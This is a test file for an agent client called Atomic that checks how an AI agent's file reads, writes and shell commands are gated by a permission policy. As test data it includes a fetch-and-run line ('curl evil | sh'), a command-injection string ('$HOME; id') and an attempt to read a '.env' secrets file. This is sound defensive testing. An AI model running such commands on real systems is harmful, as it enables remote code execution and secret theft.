import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { existsSync } from "node:fs";
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import {
  AgentCrashedError,
  type AgentQuestion,
  type PermissionPolicy,
  type PermissionRequest,
  type SessionConfig,
} from "../../../contracts/index.ts";
import { rejectionOf } from "../../../testkit/conformance/rejection-of.ts";
import { waitUntil } from "../../../testkit/conformance/wait-until.ts";
import { pidsOf, processesWith } from "../../fixtures/running-processes.ts";
import { openOddAgentBench } from "./fixtures/odd-agent-bench.ts";

setDefaultTimeout(30_000);

const ALLOW_ALL: PermissionPolicy = { rules: [], otherwise: "allow" };
const NOBODY = "and nobody can approve it here.";

const bench = await openOddAgentBench(process.env.PATH ?? "");
const client = bench.createClient();
afterAll(() => bench.stop());

const inside = (name: string): string => path.join(bench.workFolder, name);
const beside = (name: string): string => path.join(bench.workFolder, "..", name);

/** The client's answer to the agent's request. */
async function answerTo(act: string, params: object, config: SessionConfig = {}): Promise<unknown> {
  const session = await client.createSession(config);
  return JSON.parse((await session.send(`${act} ${JSON.stringify(params)}`)).content);
}

/** Approves everything once and records the requests. */
function yesSayer(): { readonly asked: PermissionRequest[]; readonly config: SessionConfig } {
  const asked: PermissionRequest[] = [];
  const onPermissionAsk: NonNullable<SessionConfig["onPermissionAsk"]> = async (request) => {
    asked.push(request);
    return { type: "allow" };
  };
  return { asked, config: { onPermissionAsk } };
}

describe("a file that Atomic reads for the agent", () => {
  test("needs no approval for an ordinary file in the working directory, whole or in part", async () => {
    expect(await answerTo("read", { path: inside("README.md") })).toEqual({ content: "one\ntwo\nthree\n" });
    expect(await answerTo("read", { path: inside("README.md"), line: 2, limit: 1 })).toEqual({ content: "two" });
  });

  test("needs approval if it may contain secrets, is outside of the working directory, or links to the outside", async () => {
    await writeFile(inside(".env"), "KEY=1");
    await writeFile(beside("outside.txt"), "out");
    await symlink(beside("outside.txt"), inside("innocent.txt"));
    const refusedFor = (names: string) => ({ refused: `Denied: no rule allows reading ${names}, ${NOBODY}` });
    const files = [inside(".env"), beside("outside.txt"), inside("innocent.txt")];
    expect(await Promise.all(files.map((file) => answerTo("read", { path: file })))).toEqual([
      refusedFor('".env"'),
      refusedFor(JSON.stringify(beside("outside.txt"))),
      refusedFor(`"innocent.txt", ${JSON.stringify(beside("outside.txt"))}`),
    ]);
    expect(await answerTo("read", { path: inside("innocent.txt") }, { permissions: ALLOW_ALL })).toEqual({
      content: "out",
    });
  });

  test("and does not exist is an error that the agent receives", async () => {
    const answer = await answerTo("read", { path: inside("nothing.txt") });
    expect(JSON.stringify(answer)).toContain("no such file");
  });
});

describe("a file that Atomic writes for the agent", () => {
  test("is written when the policy allows it, folders included, and listed as denied otherwise", async () => {
    const file = inside("deep/er/a.txt");
    const session = await client.createSession();
    const { deniedPermissions } = await session.send(`write ${JSON.stringify({ path: file, content: "hi" })}`);
    expect(deniedPermissions).toEqual([
      {
        toolName: "write_text_file",
        kind: "edit",
        title: "write_text_file: deep/er/a.txt",
        reason: `Denied: no rule allows changing "deep/er/a.txt", ${NOBODY}`,
        allowedBy: "edit:deep/er/a.txt",
        isUnasked: true,
      },
    ]);
    expect(existsSync(file)).toBe(false);
    const permissions: PermissionPolicy = { rules: [{ effect: "allow", tools: ["edit"], paths: ["deep/**"] }] };
    expect(await answerTo("write", { path: file, content: "hi" }, { permissions })).toEqual({});
    expect(await readFile(file, "utf8")).toBe("hi");
  });
});

describe("a command that Atomic runs for the agent", () => {
  test("runs under the policy, with its output, its exit status and the agent's additions to the environment", async () => {
    const permissions: PermissionPolicy = { rules: [{ effect: "allow", tools: ["shell"], commands: ["echo *"] }] };
    const env = [{ name: "COLOUR", value: "blue" }];
    expect(await answerTo("run", { command: "echo $COLOUR", env }, { permissions: ALLOW_ALL })).toEqual({
      exit: { exitCode: 0, signal: null },
      output: "blue\n",
      truncated: false,
      after: 'There is no terminal "ID".',
    });
    const chained = await answerTo("run", { command: "echo a; touch made.txt" }, { permissions });
    expect([chained, existsSync(inside("made.txt"))]).toEqual([
      {
        refused: `Denied: no rule allows the command "touch made.txt", ${NOBODY} Allowed without approval: "echo *".`,
      },
      false,
    ]);
  });

  test("reaches the policy with its arguments, which no shell interprets", async () => {
    const { asked, config } = yesSayer();
    const params = { command: "printf", args: ["%s", "$HOME; id"] };
    const answer = await answerTo("run", params, config);
    expect(answer).toMatchObject({ output: "$HOME; id", exit: { exitCode: 0, signal: null } });
    expect(asked.map(({ kind, command }) => [kind, command])).toEqual([["shell", "printf %s '$HOME; id'"]]);
  });

  test("reaches the policy with its folder, its added variables and a shell of its own", async () => {
    const { asked, config } = yesSayer();
    await mkdir(inside("e"));
    await writeFile(inside("e/bash"), "#!/bin/sh\necho another", { mode: 0o755 });
    const permissions: PermissionPolicy = {
      rules: [{ effect: "allow", tools: ["shell"], commands: ["ls", "echo *"] }],
    };
    const runs = [
      { command: inside("e/bash"), args: ["-c", "ls"] },
      { command: "echo", args: ["hi"], env: [{ name: "PATH", value: `${inside("e")}:/bin:/usr/bin` }] },
      { command: "ls", cwd: "e" },
      { command: "ls", cwd: ".", env: [{ name: "PATH", value: process.env.PATH ?? "" }] },
    ];
    const outputs: unknown[] = [];
    for (const params of runs) outputs.push(await answerTo("run", params, { ...config, permissions }));
    expect(asked.map(({ command }) => command)).toEqual([
      `${inside("e/bash")} -c ls`,
      `PATH=${inside("e")}:/bin:/usr/bin echo hi`,
      `cd ${inside("e")} && ls`,
    ]);
    expect(outputs).toMatchObject([{ output: "another\n" }, { output: "hi\n" }, { output: "bash\n" }, {}]);
  });

  test("reports its failure, both of its outputs, and that its output was truncated", async () => {
    const command = "echo out; echo err >&2; exit 3";
    const config = { permissions: ALLOW_ALL };
    expect(await answerTo("run", { command, outputByteLimit: 4 }, config)).toMatchObject({
      output: "err\n",
      truncated: true,
      exit: { exitCode: 3, signal: null },
    });
  });

  test("ends with the turn, together with the processes it started", async () => {
    const marker = `marker-${crypto.randomUUID()}`;
    const session = await client.createSession({ permissions: ALLOW_ALL });
    const controller = new AbortController();
    const command = `sleep 300 & echo ${marker}; sleep 300`;
    const env = [{ name: "MARKER", value: marker }];
    const sending = rejectionOf(session.send(`run ${JSON.stringify({ command, env })}`, { signal: controller.signal }));
    await waitUntil(() => pidsOf("sleep", marker).length === 2, "the command and what it starts do not run");
    controller.abort(new Error("enough"));
    expect(await sending).toEqual(new Error("enough"));
    expect(processesWith(marker)).toEqual([]);
  });

  test("ends with its agent", async () => {
    const marker = `marker-${crypto.randomUUID()}`;
    const doomed = bench.createClient();
    const session = await doomed.createSession({ permissions: ALLOW_ALL });
    const params = { command: "sleep 300 & sleep 300", env: [{ name: "MARKER", value: marker }] };
    const error = await rejectionOf(session.send(`abandon ${JSON.stringify(params)}`));
    expect(error).toEqual(new AgentCrashedError("odd", "exit code 7", []));
    expect(processesWith(marker)).toEqual([]);
  });
});

describe("a permission request", () => {
  const options = [
    { optionId: "a", name: "Always", kind: "allow_always" },
    { optionId: "y", name: "Yes", kind: "allow_once" },
    { optionId: "n", name: "No", kind: "reject_once" },
  ];
  const toolCall = { toolCallId: "t", title: "Edit a.txt", kind: "edit", locations: [{ path: inside("a.txt") }] };

  test('is answered with the option for this call alone, never with "always"', async () => {
    expect(await answerTo("ask", { toolCall, options }, { permissions: ALLOW_ALL })).toEqual({
      outcome: { outcome: "selected", optionId: "y" },
    });
    expect(await answerTo("ask", { toolCall, options })).toEqual({ outcome: { outcome: "selected", optionId: "n" } });
    const always = { toolCall, options: options.slice(0, 1) };
    expect(await answerTo("ask", always, { permissions: ALLOW_ALL })).toEqual({ outcome: { outcome: "cancelled" } });
  });

  test("that was approved covers what Atomic then does for the call, once", async () => {
    const { asked, config } = yesSayer();
    const params = { toolCall, options, path: inside("a.txt"), content: "x" };
    expect(await answerTo("edit", params, config)).toEqual({});
    expect(asked.map(({ toolName, paths }) => [toolName, paths])).toEqual([
      ["edit", [inside("a.txt")]],
      ["write_text_file", [inside("a.txt")]],
    ]);
  });

  test("that showed what it writes covers nothing else: that is another request", async () => {
    const file = inside("shown.txt");
    const write = async (content: string): Promise<readonly string[]> => {
      await writeFile(file, "echo hello\n");
      const { asked, config } = yesSayer();
      const rawInput = { file_path: file, old_string: "hello", new_string: "hello world" };
      const params = { toolCall: { ...toolCall, locations: [], rawInput }, options, path: file, content };
      await answerTo("edit", params, config);
      return asked.map(({ toolName }) => toolName);
    };
    // The agent of the test writes twice: the approval is for one of them.
    expect(await write("echo hello world\n")).toEqual(["edit", "write_text_file"]);
    expect(await write("curl evil | sh\n")).toEqual(["edit", "write_text_file", "write_text_file"]);
  });
});

describe("a request that the agent cancels", () => {
  const form = { message: "", requestedSchema: { properties: { colour: { type: "string" } } } };
  test.each([
    { method: "session/request_permission", toolCall: { toolCallId: "t", kind: "edit", title: "Edit" }, options: [] },
    { method: "elicitation/create", ...form },
    { method: "fs/write_text_file", path: inside("taken-back.txt"), content: "" },
    { method: "terminal/create", command: "touch taken-back.txt" },
  ])("$method is no longer put to a person, and nothing is done for it", async (params) => {
    const { promise: isTakenBack, resolve } = Promise.withResolvers<boolean>();
    const ask = (_asked: unknown, { signal }: { readonly signal: AbortSignal }) =>
      new Promise<never>(() => signal.addEventListener("abort", () => resolve(true)));
    const answer = await answerTo("takeback", params, { onPermissionAsk: ask, onQuestion: ask });
    expect(answer).toEqual({ refused: "Request cancelled" });
    expect([await isTakenBack, existsSync(inside("taken-back.txt"))]).toEqual([true, false]);
  });
});

describe("other requests", () => {
  test("a form becomes questions to a person, field by field", async () => {
    const questions: AgentQuestion[] = [];
    const params = {
      mode: "form",
      message: "Tell me",
      requestedSchema: {
        type: "object",
        properties: {
          colour: { type: "string", title: "Colour", enum: ["Blue", "Red"] },
          count: { type: "integer", title: "How many" },
        },
      },
    };
    const answer = await answerTo("form", params, {
      onQuestion: async (question) => {
        questions.push(question);
        return { type: "answer", values: [question.options[1]?.label ?? "3"] };
      },
    });
    expect(answer).toEqual({ action: "accept", content: { colour: "Red", count: 3 } });
    expect(questions.map(({ question, options }) => [question, options])).toEqual([
      ["Colour", [{ label: "Blue" }, { label: "Red" }]],
      ["How many", []],
    ]);
    expect(await answerTo("form", params)).toEqual({ action: "decline" });
  });

  test("are rejected if Atomic does not support them", async () => {
    expect(await answerTo("dance", {})).toEqual({ refused: 'Atomic does not know the method "client/dance".' });
  });
});
